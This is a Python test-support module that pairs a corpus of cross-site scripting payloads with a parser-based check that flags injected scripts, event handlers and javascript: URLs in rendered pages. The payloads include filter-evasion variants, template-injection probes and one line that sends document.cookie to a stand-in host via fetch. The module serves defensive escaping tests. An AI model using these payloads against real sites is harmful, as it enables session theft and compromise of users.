"""Hostile input: a corpus of XSS payloads and a structural check that none came through.

`find_injections(html)` parses a rendered page and lists what an escaped page never has:
event-handler attributes, inline scripts, script-capable elements, and links or sources with a
script URL. Our templates carry none of these (CSP forbids inline script), so any hit is a
payload that escaped escaping.
"""

from __future__ import annotations

from html.parser import HTMLParser

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=//xss.example/x>",
    "<base href=//xss.example/>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}{{config}}",
    "{% raw %}{{ self.__init__.__globals__ }}{% endraw %}",
    "${alert(1)}",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "javascript:alert(1)",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    '<img src="x" onerror="fetch(\'//xss.example/?c=\'+document.cookie)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
)

_SCRIPTABLE_TAGS = frozenset(
    {"iframe", "object", "embed", "svg", "math", "base", "meta", "isindex", "marquee", "template"}
)
_URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"})


class _InjectionFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _SCRIPTABLE_TAGS and not (tag == "meta" and _harmless_meta(attrs)):
            self.problems.append(f"<{tag}> element")
        if tag == "script" and not _our_script(attrs):
            self.problems.append("inline or foreign <script>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name in _URL_ATTRIBUTES and value is not None:
                scheme = value.strip().lower().replace("\t", "").replace("\n", "")
                if scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.problems.append(f"script URL in {name}= on <{tag}>")
            if name == "style" and value and "javascript:" in value.lower():
                self.problems.append(f"script URL in style= on <{tag}>")


def _our_script(attrs: list[tuple[str, str | None]]) -> bool:
    src = dict(attrs).get("src") or ""
    return src.startswith("/static/")


def _harmless_meta(attrs: list[tuple[str, str | None]]) -> bool:
    names = {name for name, _ in attrs}
    return "http-equiv" not in names or dict(attrs).get("http-equiv", "").lower() != "refresh"


def find_injections(html: str) -> list[str]:
    """Every sign of markup that did not come from our templates (empty when the page is safe)."""
    finder = _InjectionFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


MARKUP_PAYLOADS: tuple[str, ...] = tuple(p for p in XSS_PAYLOADS if any(c in p for c in "<>\"'"))
# The rest carry no markup but test double decoding and template evaluation: they must show up
# literally (escaped once), never decoded ("&lt;" turning into "<") or evaluated ("{{7*7}}" -> 49).
INERT_PAYLOADS: tuple[str, ...] = tuple(p for p in XSS_PAYLOADS if p not in MARKUP_PAYLOADS)


def raw_payloads_in(text: str, payloads: tuple[str, ...] = XSS_PAYLOADS) -> list[str]:
    """Payloads with markup characters that appear verbatim (unescaped) in `text`."""
    return [p for p in payloads if any(ch in p for ch in "<>\"'") and p in text]
